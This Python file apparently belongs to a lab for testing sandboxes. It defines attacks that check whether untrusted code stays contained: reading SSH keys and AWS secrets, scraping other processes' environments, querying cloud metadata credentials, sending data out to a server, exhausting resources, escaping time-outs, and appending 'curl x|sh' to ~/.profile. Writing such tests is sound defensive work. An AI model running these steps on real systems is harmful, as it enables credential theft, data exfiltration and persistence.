# SPDX-License-Identifier: Apache-2.0
"""The properties that are compared, and the attacks on them: see compare.py.

An attack gets a Caller (compared.py), and returns whether it worked, as seen outside, and words.
"""

import signal
import socket
from collections.abc import Callable
from typing import NamedTuple

from belljar_lab import outer
from belljar_lab.attacks.resources import FORKS
from belljar_lab.run import Disagreement, children_of, cpu_seconds, resident

MEBI = 1 << 20
SECONDS = 5  # of the time-out that is attacked: a slow host's program has begun by then
BEAT_SECONDS = 0.01  # from one sign of life to the next
SURVIVES, TIME, FILES, NETWORK, CREDENTIALS, RESOURCES, NOTHING_STAYS = PROPERTIES = (
    "the caller survives", "time limit", "file system", "network",
    "credentials", "memory and CPU", "nothing persists")

# A child that leaves everything and counts in its name; its parent goes on when it has begun.
LEAVES = """
read, write = os.pipe()
if os.fork() == 0:
    os.setsid()
    for fd in (0, 1, 2, read):
        os.close(fd)
    number = 0
    while True:
        libc.prctl(15, b"{mark}%d" % number, 0, 0, 0)
        if number == 0:
            os.close(write)
        number += 1
        time.sleep({beat})
os.close(write)
os.read(read, 1)
"""


class Row(NamedTuple):
    property: str
    id: str
    attack: Callable  # of a Caller: (whether it worked, words)
    does: str
    success: str  # what is seen outside when it worked
    bare: bool = True  # whether it works on a bare subprocess


# ---- The caller and its time ---------------------------------------------------------------------

CRASHED = -signal.SIGSEGV, 128 + signal.SIGSEGV  # bwrap and belljar say it as shells do


def crashes(caller):
    said, _ = caller.run('print("crashing", flush=True)\nctypes.string_at(0)')
    if said and said.status not in CRASHED:
        raise Disagreement(f"the program did not crash: {said.status}")
    return said is None, "it goes on" if said else "it died"


def kills_its_parent(caller):
    said, _ = caller.run("os.kill(os.getppid(), signal.SIGKILL)")
    return said is None, "it goes on" if said else "it died"


def mark_of(caller):
    return f"l{caller.world.token()[:6]}-"


def leaves(mark):
    return LEAVES.format(mark=mark, beat=BEAT_SECONDS)


def lives_on(caller, said, mark):
    """Of a child that was never left nothing is left either."""
    if not said or said.words != "done":
        raise Disagreement("the program left no child behind: " + (said.words if said else "silence"))
    return caller.lives_on(mark)


def outlives_its_time(caller):
    mark = mark_of(caller)
    said, _ = caller.run(leaves(mark), then="signal.pause()", seconds=SECONDS)
    alive = lives_on(caller, said, mark)
    return alive, "a child runs on" if alive else "all is gone"


# ---- What the caller has -------------------------------------------------------------------------


def reads_a_key(caller):
    token = caller.world.token()
    path = caller.file(".ssh/id_ed25519", token)
    said, _ = caller.run(f"print(open({str(path)!r}).read())")
    return caller.judge(said, said and token in said.out)


def changes_a_file(caller):
    path = caller.file("project/main.py", "print()\n")
    said, _ = caller.run(f"with open({str(path)!r}, 'a') as file:\n    file.write('changed')")
    return caller.judge(said, "changed" in path.read_text())


def sends(caller, family, address, server):
    """Without an answer it was not sent: the server may only have a queue."""
    token = caller.world.token()
    said, _ = caller.run(f"""
with socket.socket({int(family)}) as peer:
    peer.connect({address!r})
    peer.sendall(b"{token}")
    peer.recv(64)
""")
    return caller.judge(said, server.heard(token))


def sends_to_a_port(caller):
    server = caller.world.listener(answer=lambda _: b"got it")
    return sends(caller, socket.AF_INET, ("127.0.0.1", server.port), server)


def asks_a_service(caller):
    path = caller.home / "docker.sock"
    server = caller.world.listener(socket.AF_UNIX, address=str(path), answer=lambda _: b"yes")
    path.chmod(0o666)
    return sends(caller, socket.AF_UNIX, str(path), server)


def asks(caller, address, request):
    """One HTTP request, whose answer is printed."""
    return caller.run(f"""
with socket.create_connection(({address!r}, 80)) as peer:
    peer.sendall({request.encode()!r})
    answer = b""
    while more := peer.recv(4096):
        answer += more
print(answer.decode())
""")[0]


def posts_to_the_internet(caller):
    token = caller.world.token()
    said = asks(caller, outer.PUBLIC, f"POST / HTTP/1.0\r\nContent-Length: {len(token)}\r\n\r\n"
                f"{token}")
    return caller.judge(said, caller.world.http.heard(token))


def asks_the_cloud(caller):
    said = asks(caller, outer.METADATA, "GET /latest/meta-data/iam/security-credentials/app "
                "HTTP/1.0\r\n\r\n")
    return caller.judge(said, said and caller.world.metadata.token in said.out)


def reads_its_environment(caller):
    token = caller.environment["AWS_SECRET_ACCESS_KEY"] = caller.world.token()
    said, _ = caller.run("""
if "AWS_SECRET_ACCESS_KEY" not in os.environ:
    raise OSError(errno.ENOENT, "")
print(os.environ["AWS_SECRET_ACCESS_KEY"])
""")
    return caller.judge(said, said and token in said.out)


def reads_anothers_environment(caller):
    token = caller.world.token()
    caller.neighbour(DATABASE_PASSWORD=token)
    said, _ = caller.run("""
found = ""
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/environ") as file:
            found += file.read()
    except OSError:
        pass
if "DATABASE_PASSWORD" not in found:
    raise OSError(errno.ENOENT, "")
print(found)
""")
    return caller.judge(said, said and token in said.out)


# ---- What others need ----------------------------------------------------------------------------


def holds_memory(caller):
    return caller.judge(*caller.run(
        f'held = b"x" * {150 * MEBI}',
        look=lambda pid: caller.outlasts_a_look(pid) and resident(pid) > 100 * MEBI))


def starts_processes(caller):
    return caller.judge(*caller.run(FORKS, look=lambda pid: len(children_of(pid)) == 40))


def computes(caller):
    return caller.judge(*caller.run("while time.process_time() < 2:\n    pass",
                                    limits={"--cpu-time": "1s"},
                                    look=lambda pid: cpu_seconds(pid) > 1.5))


def floods_the_caller(caller):
    """What it prints is kept in the caller's own memory."""
    said, _ = caller.run(f'for _ in range(100):\n    os.write(1, b"x" * {MEBI - 1} + b"\\n")')
    grew = said.peak_mib > 80
    return grew, f"it grows to {said.peak_mib} MiB" if grew else "it stays small"


# ---- What stays ----------------------------------------------------------------------------------


def changes_a_start_file(caller):
    path = caller.file(".profile", "umask 022\n")
    said, _ = caller.run(f"with open({str(path)!r}, 'a') as file:\n    file.write('curl x|sh')")
    return caller.judge(said, "curl" in path.read_text())


def makes_a_file(caller):
    path = caller.file(".config/readme", "").parent / "autostart"
    said, _ = caller.run(f"open({str(path)!r}, 'x').close()")
    return caller.judge(said, path.exists())


def stays_in_the_background(caller):
    mark = mark_of(caller)
    said, _ = caller.run(leaves(mark))
    alive = lives_on(caller, said, mark)
    return alive, "a child runs on" if alive else "all is gone"


ROWS = [
    Row(SURVIVES, "crash", crashes, "reads address 0", "the caller is dead too", bare=False),
    Row(SURVIVES, "kill-parent", kills_its_parent, "sends SIGKILL to its parent",
        "the caller is dead"),
    Row(TIME, "outlive", outlives_its_time, "forks a child in a session of its own, and waits",
        "the child goes on after the time-out"),
    Row(FILES, "read-key", reads_a_key, "opens the caller's ~/.ssh/id_ed25519",
        "the file's random token comes back"),
    Row(FILES, "change-file", changes_a_file, "appends to a file of the caller's project",
        "the file is another"),
    Row(NETWORK, "internet", posts_to_the_internet, "posts to a server with a public address",
        "the server got the token"),
    Row(NETWORK, "loopback", sends_to_a_port, "sends to a server on 127.0.0.1",
        "the server got the token"),
    Row(NETWORK, "socket", asks_a_service, "asks a service by its socket in the file system",
        "the service got the token"),
    Row(CREDENTIALS, "environ", reads_its_environment, "prints AWS_SECRET_ACCESS_KEY",
        "the caller's token comes back"),
    Row(CREDENTIALS, "proc", reads_anothers_environment,
        "looks for a password in the environment of every process",
        "the token of another process comes back"),
    Row(CREDENTIALS, "metadata", asks_the_cloud, "asks 169.254.169.254 for the machine's role",
        "the token of the cloud's service comes back"),
    Row(RESOURCES, "memory", holds_memory, "takes 150 MiB", "its process has more than 100"),
    Row(RESOURCES, "processes", starts_processes, "starts 40 processes", "it has them at once"),
    Row(RESOURCES, "compute", computes, "computes for 2 s", "it has used more than 1.5 s"),
    Row(RESOURCES, "flood", floods_the_caller, "prints 100 MiB",
        "the caller's own memory grew beyond 80 MiB"),
    Row(NOTHING_STAYS, "start-file", changes_a_start_file, "appends a command to ~/.profile",
        "the file has it"),
    Row(NOTHING_STAYS, "new-file", makes_a_file, "makes a file in ~/.config", "the file is there"),
    Row(NOTHING_STAYS, "background", stays_in_the_background,
        "forks a child in a session of its own, and ends", "the child goes on after the end"),
]
